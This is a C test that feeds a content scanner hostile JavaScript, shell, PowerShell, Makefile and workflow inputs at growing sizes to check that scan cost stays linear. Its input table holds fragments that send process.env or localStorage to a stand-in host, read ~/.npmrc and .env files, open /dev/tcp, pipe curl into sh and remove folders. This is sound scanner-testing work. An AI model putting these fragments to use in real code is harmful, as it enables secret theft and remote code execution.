/* Hostile inputs through the whole per-file pass, each at once, twice and four times its size. Under
 * callgrind every size is one dump of instruction counts, described by "KIND SIZE";
 * test_linear.sh compares them. */
#include "counted.h"

#include "base/arena.h"
#include "base/buf.h"
#include "crypto/digest.h"
#include "scanner/content/deep.h"
#include "scanner/content/limits.h"
#include "scanner/content/scan_file.h"

#include <stdio.h>
#include <stdlib.h>

#define SMALLEST 4096u
#define LOADED	 (CONTENT_BUNDLE + SMALLEST)
#define SIZES	 3

struct hostile { /* before, then `unit` again and again, middle, then `closing` as often, then after; # is which time it is */
	const char *name, *before, *unit, *closing, *after, *middle, *path; /* path: NULL for index.js */
	bool loaded; /* by no install, and larger than a file that is read whole then */
};

static const struct hostile kinds[] = {
	{"items-of-a-page", "fetch('https://h.example.com/x',{method:'POST',body:localStorage.getItem('visit')})\n", "localStorage.setItem(a)\n", "", ""},
	{"parentheses", "x=", "(", ")", ";"},
	{"brackets", "x=", "[", "]", ";"},
	{"braces", "", "{", "}", ""},
	{"open-brackets", "", "[{(", "", ""},
	{"closing-brackets", "", ")]}", "", ""},
	{"calls", "", "f(", ")", ""},
	{"functions", "", "(function(a){", "})(1)", ""},
	{"arrows", "", "a=>", "", "1"},
	{"templates", "x=", "`${", "}`", ";"},
	{"open-templates", "", "`${", "", ""},
	{"quotes", "", "'\"`", "", ""},
	{"open-strings", "", "'a\n", "", ""},
	{"backslashes", "x='", "\\", "", "'"},
	{"slashes", "", "/", "", ""},
	{"divisions", "x=a", "/a", "", ""},
	{"regex-classes", "x=", "/[", "", ""},
	{"comments", "", "/*", "", ""},
	{"line-comments", "", "//\r", "", ""},
	{"identifiers", "", "abcdefgh", "", "=1"},
	{"many-names", "", "var n#;", "", ""},
	{"additions", "x=", "'a'+", "", "'b';eval(x)"},
	{"growing", "var x='';", "x+='ab';", "", "eval(x)"},
	{"doubling", "var x='ab';", "x=x+x;", "", "eval(x)"},
	{"joins", "eval([", "'a',", "", "].join(''))"},
	{"members", "x", ".a", "", "()"},
	{"indexes", "x", "[0]", "", "()"},
	{"escapes", "x='", "\\x61", "", "';eval(x)"},
	{"base64", "eval(atob('", "YWFh", "", "'))"},
	{"hex", "x=Buffer.from('", "6161", "", "','hex')"},
	{"numbers", "x=String.fromCharCode(", "97,", "", "98)"},
	{"blanks", "x", "  ", "", "\n"},
	{"equals", "x", "=x", "", ""},
	{"ternaries", "x=", "a?b:", "", "c"},
	{"hosts", "x='", "http://1.2.3.4/ ", "", "'"},
	{"imports", "", "require('./a');", "", ""},
	{"eval", "", "eval(x);", "", ""},
	{"reversed", "eval('", "ab'+'", "", "'.split('').reverse().join(''))"},
	{"not-utf8", "x='", "\xf3\xa0\x84", "", "'"},
	{"invisible", "x=`", "\xf3\xa0\x84\x81", "", "`"},
	/* Many calls that each go through all of a long list or text: twice the size, where their ceiling is met. */
	{"list-searched", "var a=[", "'b',", "a.indexOf('q');", "", "];"},
	{"list-spread", "function f(){}var a=[", "'b',", "f(...a);", "", "];"},
	{"list-concatenated", "var a=[", "'b',", "Buffer.concat(a);", "", "];"},
	{"list-as-command", "var c=require('child_process'),a=[", "'b',", "c.spawn('x',a);", "", "];"},
	{"text-measured", "var s='", "abcdef", "s.length;", "", "';"},
	/* What classes keep, generators yield and methods are told, in walks that a secret calls for. */
	{"classes", "", "class A#{x=process.env;m(o){return this.y}n(){this.y=this.x;fetch(this.m(this))}}", "", ""},
	{"classes-extended", "", "class A extends A{m(o){this.x=this.y;super.m(o)}}", "", "new A().m(process.env)"},
	{"fields", "class A{m(){", "this.f#=process.env;", "fetch(this.f#);", "}}", "}n(){"},
	{"fields-of-themselves", "class A{m(){this.a=process.env;", "this.a=[this.a,this.b];this.b={a:this.a};fetch(this.b.a);", "", "}}"},
	{"methods", "class A{", "m#(o){this.m(o);this.q=o;return this}", "", "m(o){fetch(this.q);this.m0(process.env)}}"},
	{"getters", "class A{", "get g#(){return this.g#+this.h}set h(v){this.g#=v}", "", "}"},
	{"constructed", "", "function F#(o){this.o=o}F#.prototype.s=function(){fetch(this.o)};new F#(process.env).s();", "", ""},
	{"generators", "", "function*g(){yield*g();yield process.env;for(x of g())fetch(x)}", "", ""},
	{"yields", "var a=[", "'b',", "yield*a;", "}", "];function*g(){"},
	{"listeners", "", "b.on('e',x=>b.emit('e',x));b.emit('e',process.env);", "", ""},
	{"objects-told", "function f(o){fetch(o.k0)}var o={k:process.env,", "k#:1,", "f(o);", "", "};"},
	{"objects-assigned", "var o={", "k#:process.env,", "Object.assign(this,o);", "}}", "};class A{m(){"},
	{"objects-nested", "var o=process.env;", "o={o:o};", "", "function f(x){fetch(x)}f(o)"},
	{"created", "", "var A=function(){function A(){d(this,'x',1)}return c(A,[{key:'m',value:function(){this.y=process.env;fetch(this.y)}}])}();", "",
	 "function c(a,b){return a}function d(a,b,c){}"},
	/* Many acts that each ask something of the whole text, or of what stands before them. */
	{"blanks-then-acts", "", "    ", "x=JSON.stringify(process.env);", "", ""},
	{"profiles-written", "const fs=require('fs'),os=require('os');", "fs.appendFile(os.homedir()+d,'1',f);", "", ""},
	{"programs-asked-for", "#!/usr/bin/env node\nconst fs=require('fs');", "fs.writeFileSync(p,d);", "", ""},
	{"folders-removed", "const fs=require('fs');", "function f(d){fs.rmSync(process.cwd()+d,{recursive:true})}", "", ""},
	{"messages", "var n='imeZone';", "alert(n);", "", ""},
	{"publishing", "const c=require('child_process');", "function f(){c.exec('npm publish')}", "", ""},
	{"endless-loops", "", "while(1)x()\n", "", ""},
	{"broken-tasks", "{", "\"command\" ", "", "", NULL, ".vscode/tasks.json"},
	{"tokens-kept", "const fs=require('fs'),f=require('os').homedir()+'/.t/x';fetch(u).then(r=>{", "fs.writeFileSync(f,r,{mode:0o600});", "", "})"},
	{"versions-installed", "const c=require('child_process');fetch(u).then(v=>{",
	 "c.spawn('npm',['i',`${p#.name}@${v}`],{shell:true});", "", "})"},
	{"questions-handed-on", "const rl=require('readline').createInterface();", "const a=q=>rl.question(q,d);", "", "a('k')"},
	{"environment-scrubbed", "const S=/token|secret|pass|key/i;", "function f#(o){return S.test(o)?X:o}fetch(u,{body:f#(process.env)});", "", ""},
	{"environment-scrubbed-not", "", "function f#(o){return s.test(o)||s.test(o)}fetch(u,{body:f(process.env)});", "", ""},
	{"env-files-named", "const fs=require('fs');", "p.join(d,'.env');fs.readdir(d,f);", "", "fetch(u)"},
	{"fetching-commands", "const c=require('child_process');", "fetch(c.execSync('curl u#'));", "", ""},
	{"secrets-for-marks", "let t='a';const k=require('fs').readFileSync(require('os').homedir()+'/.npmrc');", "t+='b';fetch(t.replace('zz',k));", "", ""},
	{"names-read", "WebAssembly.compile;x='__heap_base';", "function k#(A){try{return (0,eval)(A)}catch(A){}}fetch(u).then(k#);", "", ""},
	{"ports-asked", "", "echo > /dev/tcp/a/1\n", "", "", NULL, "x.sh"},
	{"ports-opened", "", "exec 3<>/dev/tcp/a/1\n", "", "", NULL, "x.sh"},
	{"shell-answers", "", "a=$(curl -s u);echo $a|sh\n", "", "", NULL, "x.sh"},
	{"shell-variables", "", "a=b;$a c\n", "", "", NULL, "x.sh"},
	{"python", "import os\n", "os.system(x)\n", "", "", NULL, "x.py"},
	{"powershell", "", "iwr u -OutFile f;saps f\n", "", "", NULL, "x.ps1"},
	{"batch", "", "curl u>f&start f\n", "", "", NULL, "x.bat"},
	{"make", "", "a:b\n\tcurl u|sh\n", "", "", NULL, "Makefile"},
	{"source-maps", "eval(a)", "\n//@ sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbImEuanMiXSwibmFtZXMiOltdLCJtYXBwaW5ncyI6IkFBQUEifQ;",
	 "                                                                                                                                            ", ""},
	{"page", "", "<script>a()</script>", "", "", NULL, "x.html"},
	{"workflow", "on: push\n", "- run: curl ${{ secrets.A }}\n", "", "", NULL, ".github/workflows/x.yml"},
	{.name = "pieces", .before = "", .unit = "fetch(process.env.A#);", .closing = "", .after = "", .loaded = true},
	{.name = "piece-ends", .before = "", .unit = "fetch(process.env.A)}", .closing = "", .after = "", .loaded = true},
	{.name = "piece-imports", .before = "fetch(process.env.A)", .unit = ";abc#  =  x(  require('a#')", .closing = "", .after = "", .loaded = true},
	{.name = "piece-froms", .before = "fetch(process.env.A);import ", .unit = "{abc}from 'a'", .closing = "", .after = "", .loaded = true},
	{.name = "piece-layers", .before = "fetch(process.env.A);", .unit = "eval(atob('YWFhYWFhYWE#'));", .closing = "", .after = "", .loaded = true},
};

static void put(struct buf *out, const char *unit, size_t i)
{
	for (const char *p = unit; *p; p++) {
		if (*p == '#')
			buf_printf(out, "%zu", i);
		else
			buf_add(out, p, 1);
	}
}

static void make(const struct hostile *k, size_t size, struct buf *out)
{
	size_t pair = strlen(k->unit) + strlen(k->closing), times = size / pair;

	buf_clear(out);
	buf_text(out, text_of(k->before));
	for (size_t i = 0; i < times; i++)
		put(out, k->unit, i);
	buf_text(out, text_of(k->middle ? k->middle : ""));
	for (size_t i = 0; i < times; i++)
		put(out, k->closing, i);
	buf_text(out, text_of(k->after));
}

static bool run(struct content_worker *w, const struct hostile *k, size_t size, bool count)
{
	struct buf bytes = BUF((size_t)1 << 24);
	struct arena *a = arena_new((size_t)256 << 20);
	char name[64];

	make(k, size, &bytes);
	struct file f = {.path = text_of(k->path ? k->path : "index.js"), .size = bytes.n};
	CALLGRIND_ZERO_STATS;
	bool (*scan)(struct content_worker *, struct text, struct text, struct arena *, struct file *) = k->loaded ? content_scan_file : deep_scan_file;
	bool ok = !bytes.failed && a && scan(w, f.path, buf_view(&bytes), a, &f);
	snprintf(name, sizeof name, "%s %zu", k->name, size);
	if (count)
		CALLGRIND_DUMP_STATS_AT(name);
	if (!ok)
		fprintf(stderr, "%s: failed\n", name);
	buf_free(&bytes);
	arena_free(a);
	return ok;
}

int main(void)
{
	struct content_engine *engine;
	struct content_worker *w = NULL;
	bool ok = crypto_init() && content_engine_new(NULL, -1, &engine, NULL) &&
		  (w = content_worker_new(engine));

	CALLGRIND_START_INSTRUMENTATION;
	for (size_t i = 0; ok && i < sizeof kinds / sizeof *kinds; i++) {
		/* Once for the buffers that are kept. */
		size_t smallest = kinds[i].loaded ? LOADED : kinds[i].middle ? (size_t)2 * SMALLEST : SMALLEST;
		ok = run(w, &kinds[i], smallest << (SIZES - 1), false);
		for (unsigned s = 0; ok && s < SIZES; s++)
			ok = run(w, &kinds[i], smallest << s, true);
	}
	if (!ok)
		return 1;
	content_worker_free(w);
	content_engine_free(engine);
	return 0;
}
